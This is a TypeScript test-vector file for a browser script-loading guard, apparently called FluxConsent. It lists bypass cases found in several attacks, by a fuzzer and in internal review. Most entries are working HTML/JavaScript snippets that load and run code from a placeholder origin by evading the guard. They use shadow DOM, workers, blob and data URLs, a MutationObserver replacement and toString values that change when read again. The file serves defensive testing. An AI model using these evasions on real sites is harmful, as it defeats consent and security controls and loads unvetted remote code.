import { group, js } from '../vector.ts';

// Found by a second attack in November 2026: shadow trees before their insertion, own programs that are handed an address.

const S = `var s=document.createElement('script');`;
const D = `<div id="d">x</div>`;
const F = `var f=document.createElement('iframe');document.body.append(f);`;
const mod = `import '{{o}}/m.mjs'`;
const file = (text: string) => ({ files: { 'own.js': text } });
const own = `<script src="own.js"></script>`;
const H = `var h=document.createElement('div'),r=h.attachShadow({mode:'open'});`;
const HC = `var h=document.createElement('div'),r=h.attachShadow({mode:'closed'});`;
const SHEET = (address: string): string =>
  `var l=document.createElement('link');l.rel='stylesheet';l.href=${address};document.head.append(l)`;
const AT = `<i id="d" data-at="{{o}}/m.mjs"></i>`;
const go = `<button id="go">go</button>`;

export const again = group('again', [
  ['image-behind-script', 'R', `<script>0</script><img src="{{o}}/p.gif">`],
  ['shadow-detached-src-after', 'XR', js(`${H}${S}r.append(s);s.src='{{o}}/x.js';document.body.append(h)`)],
  [
    'shadow-detached-src-after-closed',
    'XR',
    js(`${HC}${S}r.append(s);s.src='{{o}}/x.js';document.body.append(h)`),
  ],
  [
    'shadow-detached-text-after',
    'XR',
    js(
      `${H}${S}r.append(s);s.textContent="import('"+'{{o}}'+"/m.mjs').catch(()=>{})";document.body.append(h)`,
    ),
  ],
  [
    'shadow-detached-deep',
    'XR',
    js(
      `${H}var p=document.createElement('p');r.append(p);${S}p.append(s);s.src='{{o}}/x.js';var w=document.createElement('div');w.append(h);document.body.append(w)`,
    ),
  ],
  [
    'shadow-ce-constructor',
    'XR',
    js(
      `customElements.define('x-a',class extends HTMLElement{constructor(){super();var r=this.attachShadow({mode:'open'});${S}r.append(s);s.src='{{o}}/x.js'}});document.body.append(document.createElement('x-a'))`,
    ),
  ],
  [
    'shadow-detached-svg-script',
    'XR',
    js(
      `${H}var g=document.createElementNS('http://www.w3.org/2000/svg','svg'),s=document.createElementNS('http://www.w3.org/2000/svg','script');g.append(s);r.append(g);s.setAttribute('href','{{o}}/x.js');document.body.append(h)`,
    ),
  ],
  [
    'shadow-detached-attrnode',
    'XR',
    js(
      `${H}${S}r.append(s);var a=document.createAttribute('src');a.value='{{o}}/x.js';s.setAttributeNode(a);document.body.append(h)`,
    ),
  ],
  [
    'shadow-clone-clonable',
    'XR',
    js(
      `var h=document.createElement('div'),r=h.attachShadow({mode:'open',clonable:true});${S}r.append(s);s.src='{{o}}/x.js';document.body.append(h.cloneNode(true))`,
    ),
  ],
  [
    'template-dsd-clonable',
    'XR',
    `<template id="t"><div><template shadowrootmode="open" shadowrootclonable><script src="{{o}}/x.js"></script></template></div></template>${js(`document.body.append(t.content.cloneNode(true))`)}`,
  ],
  [
    'template-dsd-import',
    'XR',
    `<template id="t"><div><template shadowrootmode="open" shadowrootclonable><script src="{{o}}/x.js"></script></template></div></template>${js(`document.body.append(document.importNode(t.content,true))`)}`,
  ],
  [
    'template-dsd-adopt',
    'XR',
    `<template id="t"><div><template shadowrootmode="open"><script src="{{o}}/x.js"></script></template></div></template>${js(`document.body.append(t.content)`)}`,
  ],
  [
    'template-dsd-adopt-image',
    'R',
    `<template id="t"><div><template shadowrootmode="open"><img src="{{o}}/p.gif"></template></div></template>${js(`document.body.append(t.content)`)}`,
  ],
  [
    'template-dsd-adopt-link',
    'R',
    `<template id="t"><div><template shadowrootmode="open"><link rel="stylesheet" href="{{o}}/c.css"></template></div></template>${js(`document.body.append(t.content)`)}`,
  ],
  [
    'template-dsd-closed',
    'XR',
    `<template id="t"><div><template shadowrootmode="closed"><script src="{{o}}/x.js"></script></template></div></template>${js(`document.body.append(t.content)`)}`,
  ],
  [
    'template-set-html-unsafe',
    'R',
    js(
      `var t=document.createElement('template');t.setHTMLUnsafe('<div><template shadowrootmode="open"><iframe src="{{o}}/f.html"></iframe></template></div>');document.body.append(t.content)`,
    ),
  ],
  [
    'nested-shadow-unsafe-frame',
    'R',
    js(
      `var d=document.createElement('div');document.body.append(d);d.setHTMLUnsafe('<div><template shadowrootmode="open"><p><template shadowrootmode="open"><iframe src="{{o}}/f.html"></iframe></template></p></template></div>')`,
    ),
  ],
  [
    'nested-shadow-parse',
    'R',
    js(
      `var m=Document.parseHTMLUnsafe('<div><template shadowrootmode="open"><p><template shadowrootmode="open"><iframe src="{{o}}/f.html"></iframe></template></p></template></div>');document.body.append(m.body.firstChild)`,
    ),
  ],
  [
    'set-named-item-connected',
    'XR',
    js(
      `${S}document.body.append(s);var a=document.createAttribute('src');a.value='{{o}}/x.js';s.attributes.setNamedItem(a)`,
    ),
  ],
  [
    'set-named-item-ns-connected',
    'XR',
    js(
      `${S}document.body.append(s);var a=document.createAttributeNS(null,'src');a.value='{{o}}/x.js';s.attributes.setNamedItemNS(a)`,
    ),
  ],
  [
    'set-named-item-frame',
    'R',
    js(`${F}var a=document.createAttribute('src');a.value='{{o}}/f.html';f.attributes.setNamedItem(a)`),
  ],
  [
    'set-named-item-image',
    'R',
    js(
      `var i=new Image(),a=document.createAttribute('src');a.value='{{o}}/p.gif';i.attributes.setNamedItem(a)`,
    ),
  ],
  [
    'set-named-item-srcset',
    'R',
    js(
      `var i=new Image(),a=document.createAttribute('srcset');a.value='{{o}}/p.gif 1x';i.attributes.setNamedItem(a)`,
    ),
  ],
  [
    'script-adjacent-text',
    'XR',
    js(
      `${S}document.body.append(s);s.insertAdjacentText('beforeend',"import('"+'{{o}}'+"/m.mjs').catch(()=>{})")`,
    ),
  ],
  [
    'script-range-text',
    'XR',
    js(
      `${S}document.body.append(s);var r=document.createRange();r.selectNodeContents(s);r.insertNode(document.createTextNode("import('"+'{{o}}'+"/m.mjs').catch(()=>{})"))`,
    ),
  ],
  [
    'script-fragment-text',
    'XR',
    js(
      `${S}document.body.append(s);var f=document.createDocumentFragment();f.append("import('"+'{{o}}'+"/m.mjs').catch(()=>{})");s.append(f)`,
    ),
  ],
  [
    'style-range-text',
    'R',
    `<style id="z"></style>${D}${js(`setTimeout(()=>{var r=document.createRange();r.selectNodeContents(z);r.insertNode(document.createTextNode('#d{background:url({{o}}/p.gif)}'))},80)`)}`,
  ],
  [
    'style-fragment-text',
    'R',
    `<style id="z"></style>${D}${js(`setTimeout(()=>{var f=document.createDocumentFragment();f.append('#d{background:url({{o}}/p.gif)}');z.append(f)},80)`)}`,
  ],
  [
    'import-escaped-slashes',
    'XR',
    js(`import("{{e}}\\/m.mjs").catch(()=>{})`.replace('{{e}}', 'https:\\/\\/{{h}}')),
  ],
  [
    'import-escaped-variable',
    'XR',
    js(`var cfg={"module":"https:\\/\\/{{h}}\\/m.mjs"};import(cfg.module).catch(()=>{})`),
  ],
  [
    'import-json-variable',
    'XR',
    `<script type="application/json" id="cfg">{"m":"{{o}}/m.mjs"}</script>${js(`import(JSON.parse(cfg.textContent).m).catch(()=>{})`)}`,
  ],
  [
    'import-data-attribute',
    'XR',
    `<div id="d" data-src="{{o}}/m.mjs"></div>${js(`import(d.dataset.src).catch(()=>{})`)}`,
  ],
  ['import-link-href', 'XR', `<a id="d" href="{{o}}/m.mjs">x</a>${js(`import(d.href).catch(()=>{})`)}`],
  ['import-esm-sh', 'XR', js(`const cdn='{{o}}';import(cdn+'/m.mjs').catch(()=>{})`)],
  [
    'import-data-encoded',
    'XR',
    js(`import('data:text/javascript,import%20%22{{o}}/m.mjs%22').catch(()=>{})`),
  ],
  [
    'own-blob-module-script',
    'XR',
    own,
    file(
      `var s=document.createElement('script');s.type='module';s.src=URL.createObjectURL(new Blob(["${mod}"],{type:'text/javascript'}));document.head.append(s)`,
    ),
  ],
  [
    'own-blob-classic-script',
    'XR',
    own,
    file(
      `var s=document.createElement('script');s.src=URL.createObjectURL(new Blob(["import('{{o}}/m.mjs')"],{type:'text/javascript'}));document.head.append(s)`,
    ),
  ],
  [
    'importmap-escaped',
    'XR',
    `<script type="importmap">{"imports":{"lib":"https:\\/\\/{{h}}\\/m.mjs"}}</script><script type="module">import 'lib'</script>`,
  ],
  [
    'importmap-classic-import',
    'XR',
    `<script type="importmap">{"imports":{"lib":"{{o}}/m.mjs"}}</script>${js(`import('lib').catch(()=>{})`)}`,
  ],
  [
    'worklet-blob-import-own',
    'R',
    own,
    file(
      `new OfflineAudioContext(1,1,44100).audioWorklet.addModule(URL.createObjectURL(new Blob(['import "{{o}}/m.mjs"'],{type:'text/javascript'}))).catch(()=>{})`,
    ),
  ],
  ['worklet-file-import', 'R', js(`CSS.paintWorklet.addModule('own.js').catch(()=>{})`), file(mod)],
  [
    'worker-own-opfs',
    'S',
    js(`new Worker('own.js')`),
    file(`navigator.storage.getDirectory().then(d=>d.getFileHandle('{{n}}',{create:true}))`),
  ],
  [
    'worker-own-idb-const',
    'S',
    js(`new Worker('own.js')`),
    file(`const NAME='{{n}}';indexedDB.open(NAME,1)`),
  ],
  [
    'worker-own-idb-wrapper',
    'S',
    js(`new Worker('own.js')`),
    file(
      `function openDB(n){return new Promise((ok,no)=>{const r=indexedDB.open(n,1);r.onsuccess=()=>ok(r.result)})}openDB('{{n}}')`,
    ),
  ],
  ['worker-own-caches-const', 'S', js(`new Worker('own.js')`), file(`const C='{{n}}';caches.open(C)`)],
  [
    'worker-own-import-idb',
    'S',
    js(`new Worker('own.js')`),
    {
      files: {
        'own.js': `importScripts('lib.js');openDB('{{n}}')`,
        'lib.js': `function openDB(n){indexedDB.open(n,1)}`,
      },
    },
  ],
  [
    'sw-cache-const',
    'S',
    js(`navigator.serviceWorker.register('own.js').catch(()=>{})`),
    file(`const CACHE='{{n}}';self.oninstall=e=>e.waitUntil(caches.open(CACHE))`),
  ],
  [
    'sw-query-address',
    'XR',
    js(`navigator.serviceWorker.register('own.js?u='+encodeURIComponent('{{o}}/x.js')).catch(()=>{})`),
    file(`importScripts(new URL(location).searchParams.get('u'))`),
  ],
  [
    'worker-import-dynamic',
    'XR',
    js(`new Worker('own.js',{type:'module'})`),
    file(`const u='{{o}}/m.mjs';import(u)`),
  ],
  [
    'worker-import-dynamic-classic',
    'XR',
    js(`new Worker('own.js')`),
    file(`const u='{{o}}/m.mjs';import(u)`),
  ],
  [
    'worker-message-importscripts',
    'XR',
    js(`var w=new Worker('own.js');w.postMessage('{{o}}/x.js')`),
    file(`onmessage=e=>importScripts(e.data)`),
  ],
  [
    'worker-message-fetch',
    'R',
    js(`var w=new Worker('own.js');w.postMessage('{{o}}/data')`),
    file(`onmessage=e=>fetch(e.data).catch(()=>{})`),
  ],
  [
    'worker-query-importscripts',
    'XR',
    js(`new Worker('own.js?'+encodeURIComponent('{{o}}/x.js'))`),
    file(`importScripts(decodeURIComponent(location.search.slice(1)))`),
  ],
  [
    'worker-name-importscripts',
    'XR',
    js(`new Worker('own.js',{name:'{{o}}/x.js'})`),
    file(`importScripts(self.name)`),
  ],
  [
    'worker-blob-module-dynamic',
    'XR',
    js(
      `new Worker(URL.createObjectURL(new Blob(["const u='{{o}}'+'/m.mjs';import(u)"],{type:'text/javascript'})),{type:'module'})`,
    ),
  ],
  [
    'worker-blob-classic-dynamic-import',
    'XR',
    js(
      `new Worker(URL.createObjectURL(new Blob(["const u='{{o}}'+'/m.mjs';import(u)"],{type:'text/javascript'})))`,
    ),
  ],
  [
    'shared-worker-message',
    'R',
    js(`var w=new SharedWorker('own.js');w.port.postMessage('{{o}}/data')`),
    file(`onconnect=e=>{e.ports[0].onmessage=m=>fetch(m.data).catch(()=>{})}`),
  ],
  [
    'link-rel-late',
    'R',
    js(
      `var l=document.createElement('link');l.rel='x-late';l.href='{{o}}/c.css';document.head.append(l);setTimeout(()=>{l.rel='stylesheet'},50)`,
    ),
  ],
  [
    'link-rel-late-html',
    'R',
    `<link id="l" rel="lazy" href="{{o}}/c.css">${js(`addEventListener('load',()=>{l.rel='stylesheet'})`)}`,
  ],
  [
    'link-rel-alternate-late',
    'R',
    `<link id="l" rel="subresource" href="{{o}}/c.css">${js(`addEventListener('load',()=>{l.setAttribute('rel','stylesheet')})`)}`,
  ],
  [
    'link-rellist',
    'R',
    js(
      `var l=document.createElement('link');l.rel='x';l.href='{{o}}/c.css';document.head.append(l);l.relList.add('stylesheet')`,
    ),
  ],
  [
    'link-relist-replace',
    'R',
    js(
      `var l=document.createElement('link');l.rel='canonical';l.href='{{o}}/c.css';document.head.append(l);l.relList.value='stylesheet'`,
    ),
  ],
  [
    'anchor-download-click',
    'R',
    js(
      `var a=document.createElement('a');a.href='{{o}}/data';a.download='x';document.body.append(a);a.click()`,
    ),
    // The second request is for the icon of the site.
    { most: 2 },
  ],
  [
    'document-open-three',
    'R',
    `${go}${js(`document.getElementById('go').onclick=()=>document.open('{{o}}/f.html','_blank','')`)}`,
    { click: true },
  ],
  [
    'option-index-set',
    'XR',
    `<select id="q"><option>a</option></select>${js(`var o=document.createElement('option');${S}s.src='{{o}}/x.js';o.append(s);q.options[0]=o`)}`,
  ],
  [
    'pi-xml-stylesheet',
    'R',
    js(
      `document.insertBefore(document.createProcessingInstruction('xml-stylesheet','href="{{o}}/c.css" type="text/css"'),document.documentElement)`,
    ),
  ],
  [
    'load-open-form-click',
    'R',
    `${js(`onload=()=>{document.open();document.write('<form action="{{o}}/f.html" target=fr><button id=go>x</button></form><iframe name=fr></iframe>');document.close()}`)}`,
    { click: true },
  ],
  [
    'javascript-href-click',
    'XR',
    `<a id="go" href="javascript:void(import('{{o}}/m.mjs').catch(()=>{}))">x</a>`,
    { click: true },
  ],
  // Found by our own review of these fixes.
  [
    'style-adjacent-text',
    'R',
    `<style id="z"></style>${D}${js(`z.insertAdjacentText('beforeend','#d{background:url({{o}}/p.gif)}')`)}`,
  ],
  [
    'template-dsd-adopt-node',
    'XR',
    `<template id="t"><div><template shadowrootmode="open"><script src="{{o}}/x.js"></script></template></div></template>${js(`document.body.append(document.adoptNode(t.content))`)}`,
  ],
  ['image-parser-removed', 'R', `<p>x</p><img id="i" src="{{o}}/p.gif">${js(`i.remove()`)}`],
  [
    'srcdoc-known-mark',
    'XR',
    js(
      `${F}f.srcdoc='<script>im'+'port("{{o}}/m.mjs").catch(()=>{})</scr'+'ipt>';setTimeout(()=>{var m=/data-flux-\\w+/.exec(f.getAttribute('srcdoc'))?.[0];var g=document.createElement('iframe');document.body.append(g);f.remove();g.srcdoc='<script '+m+'-type="">im'+'port("{{o}}/m.mjs").catch(()=>{})</scr'+'ipt>'},60)`,
    ),
  ],
  [
    'xhtml-prefixed-data',
    'XR',
    `<iframe sandbox="allow-scripts" src="data:application/xhtml+xml,<h:html xmlns:h='http://www.w3.org/1999/xhtml'><h:body><h:script src='{{o}}/x.js'/></h:body></h:html>"></iframe>`,
  ],
  ['sandboxed-background', 'R', `<iframe sandbox srcdoc="<body background='{{o}}/p.gif'>x"></iframe>`],
  ['import-spread', 'XR', js(`var o={...import('{{o}}/m.mjs')}`)],
  // Found by the fuzzer: quotes that a parser takes as part of a name, and layout that is forced without reading a size.
  ['write-quote-in-name', 'R', js(`document.write('<p "><img src="{{o}}/p.gif">"></p>')`)],
  ['write-quote-before-equals', 'XR', js(`document.write('<p ="><script src="{{o}}/x.js"></scr'+'ipt>">')`)],
  [
    'write-quote-in-comment',
    'XR',
    js(`document.write('<!-- <p title=" --><script src="{{o}}/x.js"></scr'+'ipt><b title="x">')`),
  ],
  [
    'write-open-in-title',
    'XR',
    js(`document.write('<title><b title="</title><script src={{o}}/x.js></scr'+'ipt>')`),
  ],
  ['write-pieces-bracket', 'R', js(`document.write('<img alt=">');document.write('" src="{{o}}/p.gif">')`)],
  [
    'command-quote-behind-value',
    'R',
    `<div id="e" contenteditable>x</div>${js(
      `getSelection().selectAllChildren(e);document.execCommand('insertHTML',false,'<p style="background:url(&#34;{{o}}/p.gif")">x</p>')`,
    )}`,
  ],
  ...Object.entries({
    'scroll-to': 'scrollTo(0,1)',
    'scroll-x': 'scrollX',
    'scroll-top': 'd.scrollTop=1',
    selection: 'getSelection().selectAllChildren(d)',
    blur: 'd.blur()',
    animations: 'document.getAnimations()',
    'outer-text': 'd.outerText',
    'computed-map': "d.computedStyleMap?.().get('color')",
    fonts: 'document.fonts.ready',
    dialog: 'g.showModal()',
    popover: 'o.showPopover()',
    select: 'i.select()',
  }).map(
    ([id, code]) =>
      [
        `property-then-${id}`,
        'R',
        `${D}<dialog id="g"></dialog><p popover id="o"></p><input id="i">${js(`d.style.backgroundImage='url({{o}}/p.gif)';${code}`)}`,
      ] as const,
  ),
  // As zone.js does.
  [
    'property-then-scroll-other-observer',
    'R',
    `${D}${js(`MutationObserver=class extends MutationObserver{};d.style.backgroundImage='url({{o}}/p.gif)';scrollTo(0,1)`)}`,
  ],
  [
    'parse-other-observer',
    'XR',
    `${js(`window.MutationObserver=class{observe(){}disconnect(){}takeRecords(){return[]}}`)}<div><b><script src="{{o}}/x.js"></script></b></div>`,
  ],
  [
    'shadow-other-observer',
    'XR',
    `${js(`window.MutationObserver=class{observe(){}disconnect(){}takeRecords(){return[]}}`)}<div><template shadowrootmode="open"><b></b><script src="{{o}}/x.js"></script></template></div>`,
  ],
  // URL parsing drops tabs and newlines, and CSS has escapes.
  ...Object.entries({
    'style-tab': `<style>p{background:url("TAB/p.gif")}</style><p>x</p>`,
    'style-line-escaped': `<style>p{background:url("LINE/p.gif")}</style><p>x</p>`,
    'style-attribute-tab': `<p style='background:url("TAB/p.gif")'>x</p>`,
    'paint-tab': `<svg width="9" height="9"><rect width="9" height="9" fill='url("TAB/p.svg#a")'/></svg>`,
    'paint-escaped': `<svg width="9" height="9"><rect width="9" height="9" fill="url(ESCAPED/p.svg#a)"/></svg>`,
  }).map(
    ([id, html]) =>
      [
        `address-${id}`,
        'R',
        `${D}${js(
          `var t=String.fromCharCode(9),b=String.fromCharCode(92);d.innerHTML=${JSON.stringify(html)}.replace('TAB','{{o}}'.replace('//','/'+t+'/')).replace('LINE','{{o}}'.replace('tt','t'+b+'a t')).replace('ESCAPED','{{o}}'.replace('//',b+'2f'+b+'2f '))`,
        )}`,
      ] as const,
  ),
  // An inserted script that has not started does so when it is changed.
  [
    'changed-type-then-text',
    'XR',
    js(`${S}s.src='{{o}}/x.js';document.head.append(s);s.type='';s.append('x')`),
  ],
  [
    'changed-type-removed-then-text',
    'XR',
    js(`${S}s.type='x';s.src='{{o}}/x.js';document.head.append(s);s.removeAttribute('type');s.append(' ')`),
  ],
  [
    'changed-text-put-before',
    'XR',
    js(`${S}s.type='x';s.append('("{{o}}/m.mjs")');document.head.append(s);s.type='';s.prepend('import')`),
  ],
  ['namespace-in-comment', 'R', `<style>/* @namespace */ body{background:url({{o}}/p.gif)}</style>`],
  [
    'srcset-odd-descriptor',
    'R',
    js(`var i=new Image();i.srcset='data:image/gif;base64,R0lGODlhAQABAAAAACw= 1e-1x,{{o}}/p.gif 1x'`),
  ],
  // The rest of a third attack.
  ['import-new-url', 'XR', `<script>import(new URL('m.mjs', '{{o}}/')).catch(()=>{})</script>`],
  [
    'write-title-comment',
    'XR',
    js(`document.write('<title><!--</title><script src="{{o}}/x.js"><\\/script><!-- -->')`),
  ],
  [
    'frame-and-script-at-once',
    'XR',
    js(
      `var f=document.createDocumentFragment(),i=document.createElement('iframe');${S}i.src='own.html';s.textContent="var A=window[0].Node.prototype.appendChild,e=document.createElement('script');e.src='{{o}}/x.js';A.call(document.head,e)";f.append(i,s);document.body.append(f)`,
    ),
    { files: { 'own.html': '<p>own' } },
  ],
  [
    'type-undone',
    'XR',
    `<script>new MutationObserver(rs=>{for(const r of rs)for(const n of r.addedNodes)if(n.src)n.removeAttribute('type')}).observe(document,{childList:true,subtree:true})</script><script src="{{o}}/x.js"></script>`,
  ],
  ['frame-navigate', 'R', js(`${F}setTimeout(()=>f.contentWindow.navigation.navigate('{{o}}/p.gif'),50)`)],
  [
    'prefixed-href',
    'R',
    js(
      `var i=document.createElementNS('http://www.w3.org/2000/svg','image'),a=document.createAttributeNS('http://www.w3.org/1999/xlink','q:href');a.value='{{o}}/p.gif';i.setAttributeNode(a);document.body.append(document.createElementNS('http://www.w3.org/2000/svg','svg'));document.body.lastChild.append(i)`,
    ),
  ],
  // A fourth attack: addresses that nothing in the text gives away.
  ['import-svg', 'XR', `${AT}<svg><script>import(d.dataset.at).catch(()=>{})</script></svg>`],
  [
    'import-behind-pattern',
    'XR',
    `${AT}<script>if(/^https?:\\/\\//.test(d.dataset.at))import(d.dataset.at).catch(()=>{});\n'"'.replace(/"/g,'')</script>`,
  ],
  ['import-no-slashes', 'XR', '<script type="module">import "https:{{h}}/m.mjs"</script>'],
  ['import-no-slashes-call', 'XR', js(`import('https:{{h}}/m.mjs')`)],
  ['import-no-slashes-built', 'XR', js(`var u='htt'+'ps:/{{h}}/m.mjs';import(u)`)],
  [
    'import-no-slashes-map',
    'XR',
    '<script type="importmap">{"imports":{"a":"https:{{h}}/m.mjs"}}</script><script type="module">import "a"</script>',
  ],
  // A fifth attack: content inside an address.
  ['sheet-data', 'R', js(SHEET('`data:text/css,body{background:url({{o}}/p.gif)}`'))],
  ['sheet-coded', 'R', js(SHEET(`'data:text/css;base64,'+btoa('body{background:url({{o}}/p.gif)}')`))],
  [
    'sheet-blob',
    'R',
    js(SHEET(`URL.createObjectURL(new Blob(['body{background:url({{o}}/p.gif)}'],{type:'text/css'}))`)),
  ],
  [
    'sheet-tag',
    'R',
    '',
    { head: '<link rel="stylesheet" href="data:text/css,body{background:url({{o}}/p.gif)}">' },
  ],
  [
    'sheet-import-coded',
    'R',
    js(
      `var s=document.createElement('style');s.textContent='@import url("data:text/css;base64,'+btoa('body{background:url({{o}}/p.gif)}')+'")';document.head.append(s)`,
    ),
  ],
  [
    'sheet-module',
    'R',
    `<script type="module">import s from 'data:text/css,body{background:url({{o}}/p.gif)}' with {type:'css'};document.adoptedStyleSheets=[s]</script>`,
    { browsers: ['chromium'] },
  ],
  [
    'form-base-target',
    'R',
    '<iframe name="q"></iframe><form action="{{o}}/f.html"><input type="submit" id="go"></form>',
    { head: '<base target="q">', click: true, gone: 'the click is over' },
  ],
  // Links and forms whose targets nobody sees.
  [
    'anchor-download-nowhere',
    'R',
    js(`var a=document.createElement('a');a.href='{{o}}/data';a.download='x';a.click()`),
    { most: 2 },
  ],
  [
    'anchor-download-event',
    'R',
    js(
      `var a=document.createElement('a');a.href='{{o}}/data';a.download='x';document.body.append(a);a.dispatchEvent(new MouseEvent('click'))`,
    ),
    { most: 2 },
  ],
  [
    'anchor-base-target',
    'R',
    `<iframe name="q"></iframe><a id="go" href="{{o}}/f.html"><b>x</b></a>`,
    { head: '<base target="q">', click: true, gone: 'the click is over' },
  ],
  [
    'anchor-svg-target',
    'R',
    `<iframe name="q"></iframe><svg width="90" height="90"><a href="{{o}}/f.html" target="q"><rect id="go" width="90" height="90"></rect></a></svg>`,
    { click: true, gone: 'the click is over' },
  ],
  [
    'form-in-closed-shadow',
    'R',
    `<iframe name="sink"></iframe><div id="h"></div>${js(`var r=h.attachShadow({mode:'closed'});r.innerHTML='<form method=post target=sink action="{{o}}/form"><button>b</button></form>';r.querySelector('button').click()`)}`,
  ],
  // Addresses that only a browser reads as such, and values that differ when they are read again.
  [
    'style-no-slashes',
    'R',
    js(`document.body.innerHTML='<p style="background:url(http:{{h}}/p.gif)">x</p>'`),
  ],
  ['style-no-slashes-tag', 'R', '<p style="background:url(http:{{h}}/p.gif)">x</p>'],
  ['smil-user', 'R', '<svg><image><set attributeName="href" to="//@{{h}}/p.gif"></set></image></svg>'],
  ['paint-user', 'R', '<svg><rect width="9" height="9" fill="url(//@{{h}}/s.svg#p)"></rect></svg>'],
  ['frame-data-no-slashes', 'R', `<iframe src="data:text/html,<img src=https:{{h}}/p.gif>"></iframe>`],
  [
    'frame-data-in-data',
    'R',
    js(
      `var f=document.createElement('iframe');f.src='data:text/html,<script src="data:text/javascript;base64,'+btoa('new Image().src="{{o}}/p.gif"')+'"><\\/script>';document.body.append(f)`,
    ),
  ],
  ['frame-sandbox-user', 'R', `<iframe sandbox srcdoc="<img src=//@{{h}}/p.gif>"></iframe>`],
  [
    'frame-entities',
    'R',
    js(
      `var f=document.createElement('iframe'),t='<!DOCTYPE svg [<!ENTITY a "htt"><!ENTITY b "ps:/">]><svg xmlns="http://www.w3.org/2000/svg"><image href="&a;&b;/{{h}}/p.gif"/></svg>';f.sandbox='';f.src=URL.createObjectURL(new Blob([t],{type:'image/svg+xml'}));document.body.append(f)`,
    ),
    { twinless: 'waits, whatever it names' },
  ],
  ['import-comment-ends', 'XR', `<script type="module">import //x\u2028"{{o}}/m.mjs"</script>`],
  [
    'attribute-name-twice',
    'XR',
    js(
      `var n=0;${S}s.setAttributeNS(null,{toString:()=>self.FluxConsent&&!n++?'title':'src'},'{{o}}/x.js');document.head.append(s)`,
    ),
    { twinless: 'says one thing to the guard and another to the browser' },
  ],
  [
    'command-twice',
    'R',
    `<div id="d" contenteditable>text</div>${js(`var n=0;d.focus();getSelection().selectAllChildren(d);document.execCommand({toString:()=>self.FluxConsent&&!n++?'bold':'insertImage'},false,'{{o}}/p.gif')`)}`,
    { twinless: 'says one thing to the guard and another to the browser' },
  ],
  [
    'turn-twice',
    'R',
    js(
      `var n=0,p=new RTCPeerConnection({iceServers:[{urls:{toString:()=>self.FluxConsent&&!n++?'stun:localhost':'turns:{{h}}?transport=tcp'},username:'a',credential:'b'}]});p.createDataChannel('d');p.createOffer().then(o=>p.setLocalDescription(o)).catch(()=>{})`,
    ),
    {
      connects: true,
      browsers: ['chromium', 'firefox'],
      twinless: 'says one thing to the guard and another to the browser',
    },
  ],
  ['import-in-template', 'XR', AT + js('var t=`a ${import(d.dataset.at).catch(()=>{})} b`')],
  [
    'import-pausing',
    'XR',
    `${AT}<script>setTimeout(()=>document.body.append(document.createElement('div')),30)</script>${js(`import(d.dataset.at).catch(()=>{})`)}`,
  ],
  ['import-function', 'XR', AT + js(`new Function('u','return import(u)')(d.dataset.at).catch(()=>{})`)],
  ['import-timeout', 'XR', AT + js(`setTimeout('import(d.dataset.at).catch(()=>{})')`)],
  ['import-interval', 'XR', AT + js(`setInterval({toString:()=>'import(d.dataset.at).catch(()=>{})'},50)`)],
  ['import-eval', 'XR', AT + js(`eval('import(d.dataset.at)').catch(()=>{})`)],
  [
    'import-async-function',
    'XR',
    `${AT}${js(`new (async function(){}).constructor('u','await import(u)')(d.dataset.at).catch(()=>{})`)}`,
  ],
  [
    'import-generator-function',
    'XR',
    `${AT}${js(`new (function*(){}).constructor('u','yield import(u).catch(()=>{})')(d.dataset.at).next()`)}`,
  ],
  [
    'async-function-loader',
    'XR',
    js(`new (async function(){}).constructor("${S}s.src='{{o}}/x.js';document.head.append(s)")()`),
  ],
  [
    'import-blob',
    'XR',
    AT +
      js(
        `${S}s.src=URL.createObjectURL(new Blob(['import(d.dataset.at).catch(()=>{})'],{type:'text/javascript'}));document.head.append(s)`,
      ),
  ],
  [
    'import-data',
    'XR',
    AT +
      js(
        `${S}s.setAttribute('src','data:text/javascript,import(d.dataset.at).catch(()=>%7B%7D)');document.head.append(s)`,
      ),
  ],
  [
    'import-data-connected',
    'XR',
    AT +
      js(
        `${S}s.type='module';document.head.append(s);s.src='data:text/javascript;base64,'+btoa('import(d.dataset.at).catch(()=>{})')`,
      ),
  ],
  [
    'import-set-handler',
    'XR',
    AT + js(`var i=new Image;i.setAttribute('onerror','import(d.dataset.at).catch(()=>{})');i.src='data:,'`),
  ],
  [
    'import-body-onload',
    'XR',
    `${AT}<script>document.body.setAttribute('onload','import(d.dataset.at).catch(()=>{})')</script>`,
  ],
  [
    'noscript-left-open',
    'R',
    js(`d.innerHTML='<noscript><p></noscript><img src="{{o}}/p.gif">'`).replace(
      '<script>',
      '<div id="d"></div><script>',
    ),
  ],
  [
    'noscript-in-svg',
    'R',
    js(`d.innerHTML='<svg><noscript><image href="{{o}}/p.gif"></noscript></svg>'`).replace(
      '<script>',
      '<div id="d"></div><script>',
    ),
  ],
  [
    'meta-equiv-last',
    'R',
    js(
      `var m=document.createElement('meta');m.content='0;url={{o}}/f.html';document.head.append(m);m.httpEquiv='refresh'`,
    ),
  ],
  [
    'write-pieces-frame',
    'XR',
    js(
      `${F}var d=f.contentDocument;d.open();d.write('<script src="{{o}}/x');setTimeout(function(){d.write('.js"><'+'/script>')},50)`,
    ),
  ],
  [
    'type-toggled',
    'XR',
    `${js(
      `new MutationObserver(function(rs){rs.forEach(function(r){r.addedNodes.forEach(function(n){n.src&&n.toggleAttribute('type',false)})})}).observe(document,{childList:true,subtree:true})`,
    )}<script src="{{o}}/x.js"></script>`,
  ],
  [
    'xslt-fragment',
    'R',
    js(
      `var x=new XSLTProcessor();x.importStylesheet(new DOMParser().parseFromString('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><img src="{{o}}/p.gif"/></xsl:template></xsl:stylesheet>','text/xml'));x.transformToFragment(new DOMParser().parseFromString('<a/>','text/xml'),document)`,
    ),
  ],
  // The fifth attack: what a pattern took for an address of the site's own.
  [
    'base-then-markup',
    'R',
    `<div id="d"></div>${js(
      `onload=()=>{var b=document.createElement('base');b.href='{{o}}/';document.head.append(b);d.innerHTML='<img src="p.gif">'}`,
    )}`,
  ],
  [
    'base-then-same-address',
    'R',
    js(
      `new Image().src='https:p.gif';setTimeout(()=>{var b=document.createElement('base');b.href='{{o}}/';document.head.append(b);new Image().src='https:p.gif'},80)`,
    ),
  ],
  ...Object.entries({ tab: 'ht\\ttp:{{h}}', line: 'ht\\ntp:/{{h}}' }).map(
    ([id, at]) =>
      [
        `markup-${id}-in-scheme`,
        'R',
        `<div id="d"></div>${js(`d.innerHTML='<img src="${at}/p.gif">'`)}`,
      ] as const,
  ),
  // Unusual spellings of addresses in styles.
  ...Object.entries({
    'http-alone': `body{background:url(http:{{h}}/p.gif)}`,
